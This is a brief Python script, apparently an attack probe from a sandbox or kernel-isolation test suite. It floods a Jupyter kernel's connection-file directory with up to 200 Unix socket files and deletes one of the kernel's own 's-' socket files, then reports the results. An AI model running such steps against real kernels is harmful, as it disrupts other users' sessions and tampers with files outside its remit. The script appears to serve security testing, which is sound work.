"""Leave as many socket files as possible where the kernel's own are, which is on the disk of the machine."""

import os
import socket

from attack import report
from ipykernel import get_connection_file

folder = os.path.dirname(get_connection_file())


def fill():
    here = os.open(".", os.O_RDONLY)
    made = 0
    try:
        os.chdir(folder)
        for number in range(200):
            socket.socket(socket.AF_UNIX).bind(f"more{number}")
            made += 1
    finally:
        os.fchdir(here)
    return made


def replace():
    (name, *_) = [name for name in os.listdir(folder) if name.startswith("s-")]
    os.unlink(f"{folder}/{name}")
    return True


report(fill=fill, replace=replace)
